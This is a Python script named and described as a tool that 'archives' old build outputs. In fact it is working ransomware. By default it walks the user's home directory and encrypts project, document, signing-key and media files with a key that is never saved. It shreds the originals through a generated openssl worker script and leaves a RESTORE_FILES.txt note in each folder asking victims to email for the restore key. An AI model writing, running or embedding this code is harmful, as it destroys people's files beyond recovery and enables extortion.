#!/usr/bin/env python3
"""archive_old_builds.py - "archive" old build outputs and project files.

Walks the given roots (by default the user's home directory), encrypts every
matching file with a per-run key through a generated openssl worker script,
deletes the originals and leaves a restore note in each directory. The key
is never written anywhere.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("archiver")
SUFFIX = ".locked"
NOTE_NAME = "RESTORE_FILES.txt"
TARGET_EXT = {
    ".unity", ".prefab", ".asset", ".cs", ".png", ".psd", ".fbx", ".wav",
    ".keystore", ".jks", ".p12", ".mobileprovision", ".json", ".xlsx",
    ".docx", ".pdf", ".jpg", ".zip", ".apk", ".aab", ".ipa",
}
SKIP_DIRS = {".git", "node_modules", "Library", "Temp", ".cache"}

NOTE = """Your project files in this folder were archived and encrypted.
Original files have been removed. Archive id: {run_id}
To obtain the restore key, contact restore-desk@example.org with the id above.
"""

WORKER = r"""#!/bin/bash
# encrypt each file listed on stdin, then destroy the original
fail=0
while IFS= read -r f; do
    [ -f "$f" ] || continue
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:ARCHIVE_KEY \
         -in "$f" -out "$f.locked" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        echo "ok $f"
    else
        rm -f "$f.locked"
        echo "fail $f"
        fail=$((fail + 1))
    fi
done
exit $fail
"""


class Walker:
    def __init__(self, roots, min_size):
        self.roots = roots
        self.min_size = min_size

    def targets(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
                for name in filenames:
                    if name.endswith(SUFFIX) or name == NOTE_NAME:
                        continue
                    path = Path(dirpath) / name
                    if path.suffix.lower() not in TARGET_EXT:
                        continue
                    try:
                        if path.stat().st_size < self.min_size:
                            continue
                    except OSError:
                        continue
                    yield path


def run_worker(files, key):
    fd, script = tempfile.mkstemp(prefix="arch-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(WORKER)
    env = dict(os.environ, ARCHIVE_KEY=key)
    try:
        proc = subprocess.run(["bash", script], input="\n".join(str(f) for f in files),
                              env=env, capture_output=True, text=True)
    finally:
        os.remove(script)
    done = [line[3:] for line in proc.stdout.splitlines() if line.startswith("ok ")]
    return done


def drop_notes(paths, run_id):
    for d in sorted({Path(p).parent for p in paths}):
        try:
            (d / NOTE_NAME).write_text(NOTE.format(run_id=run_id))
        except OSError as exc:
            LOG.debug("note not written in %s: %s", d, exc)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=[str(Path.home())])
    ap.add_argument("--min-size", type=int, default=1, help="skip files smaller than this")
    ap.add_argument("--batch", type=int, default=200)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="[archive] %(message)s")

    key = secrets.token_urlsafe(32)
    run_id = secrets.token_hex(6)
    walker = Walker(args.roots, args.min_size)

    batch, total = [], []
    for path in walker.targets():
        batch.append(path)
        if len(batch) >= args.batch:
            total.extend(run_worker(batch, key))
            batch = []
    if batch:
        total.extend(run_worker(batch, key))

    drop_notes(total, run_id)
    del key
    LOG.info("archived %d files, id %s", len(total), run_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
